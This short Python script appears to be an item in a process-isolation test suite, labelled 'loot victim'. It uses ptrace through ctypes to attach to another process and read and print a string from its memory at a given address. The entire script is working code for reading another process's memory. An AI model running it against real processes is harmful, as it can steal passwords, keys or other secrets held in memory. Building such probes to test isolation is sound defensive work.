"""Attaches to a process of the person as a debugger and reads its memory.

family: processes
arguments: {victim_pid} {victim_address}
judge: loot victim
trace: ptrace
"""

import ctypes
import os
import sys

ATTACH, PEEK, DETACH = 16, 2, 17
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid, address = int(sys.argv[1]), int(sys.argv[2])
if libc.ptrace(ATTACH, pid, None, None) != 0:
    sys.exit(os.strerror(ctypes.get_errno()))
os.waitpid(pid, 0x40000000)
words = [libc.ptrace(PEEK, pid, address + 8 * n, None) for n in range(5)]
libc.ptrace(DETACH, pid, None, None)
print(b"".join(word.to_bytes(8, "little", signed=True) for word in words).split(b"\0")[0].decode(errors="replace"))
